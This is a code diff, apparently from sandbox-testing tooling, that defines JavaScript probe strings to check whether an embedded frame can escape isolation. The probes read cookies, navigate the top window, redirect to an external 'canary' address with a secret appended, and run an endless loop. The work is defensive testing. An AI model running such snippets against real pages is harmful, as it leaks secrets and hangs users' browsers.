@@ -1,6 +1,6 @@
 /**
- * What a hostile author would try, each as the body of an async function. `canary` is an address outside; `open(text)` tells
- * that something was reached that must not be. Whether the canary was reached is counted there, not here.
+ * Attacks, each the body of an async function. `canary` is an external address that counts requests; `open(text)`
+ * reports access to something forbidden.
  */
 export const QUIET_PROBES: Readonly<Record<string, string>> = {
   cookie: `try { document.cookie = 'a=1'; open(document.cookie) } catch {}`,
@@ -39,7 +39,7 @@ export const QUIET_PROBES: Readonly<Record<string, string>> = {
   top_navigation: `try { top.location = canary + '/top' } catch {}`,
 }
 
-/** Those after which the frame is not what it was: one to a page. */
+/** Attacks that break the frame: one per page. */
 export const LOUD_PROBES: Readonly<Record<string, string>> = {
   self_navigation: `location = canary + '/self?' + secret`,
   refresh: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + canary + '/refresh'; document.head.append(m)`,
@@ -49,7 +49,6 @@ export const LOUD_PROBES: Readonly<Record<string, string>> = {
   busy_loop: `for (;;) {}`,
 }
 
-/** A spark that runs the probe its parameter names; rows are the secret. */
 export function buildHostileCode(canary: string): string {
   const cases = Object.entries({ ...QUIET_PROBES, ...LOUD_PROBES })
     .map(([name, body]) => `${name}: async () => { ${body} }`)
